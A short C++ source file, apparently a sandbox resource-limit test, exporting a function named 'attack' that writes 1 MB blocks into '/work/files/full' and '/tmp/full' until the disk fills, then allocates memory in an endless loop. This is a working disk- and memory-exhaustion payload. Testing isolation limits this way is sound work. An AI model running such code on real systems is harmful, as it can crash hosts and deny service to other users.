#include <cstdlib>
#include <cstring>
#include <fcntl.h>
#include <initializer_list>
#include <unistd.h>

static char block[1 << 20];

extern "C" long attack(long n) {
    memset(block, 1, sizeof block);
    for (const char *name : {"/work/files/full", "/tmp/full"}) {
        int file = open(name, O_CREAT | O_WRONLY, 0600);
        while (write(file, block, sizeof block) > 0) {
        }
    }
    for (;;)
        if (void *more = malloc(sizeof block))
            memset(more, 1, sizeof block);
    return n;
}
